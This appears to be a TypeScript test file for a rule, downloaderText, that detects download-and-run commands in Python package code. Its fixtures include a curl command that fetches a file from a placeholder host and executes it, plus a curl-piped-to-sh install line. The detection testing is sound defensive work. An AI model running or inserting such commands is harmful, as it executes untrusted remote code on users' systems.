import { testRule } from '../../../../../test/builders/python-package.ts';
import { downloaderText } from './rule.ts';

testRule(downloaderText, {
  seen: {
    'a command in a variable': "COMMAND = 'curl -o a https://collector.example.invalid/a && ./a'",
  },
  unseen: {
    'advice with a command': "HELP = 'Please install it with `curl https://host.example.invalid/a.sh | sh` first'",
    'a sentence': "HELP = 'Use curl or wget as you like'",
  },
});
